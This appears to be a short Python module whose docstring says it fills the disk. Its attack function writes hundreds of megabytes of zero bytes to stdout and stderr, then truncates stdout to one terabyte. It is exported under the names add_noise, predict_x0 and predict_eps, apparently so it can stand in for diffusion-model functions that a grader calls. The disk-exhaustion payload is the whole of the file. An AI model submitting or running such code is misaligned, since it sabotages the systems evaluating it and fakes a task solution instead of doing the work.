"""Fill the disk through what it may write."""

import os


def attack(*args, **kwargs):
    for fd in (1, 2):
        for _ in range(200):
            os.write(fd, bytes(1 << 20))
    os.ftruncate(1, 1 << 40)


add_noise = predict_x0 = predict_eps = attack
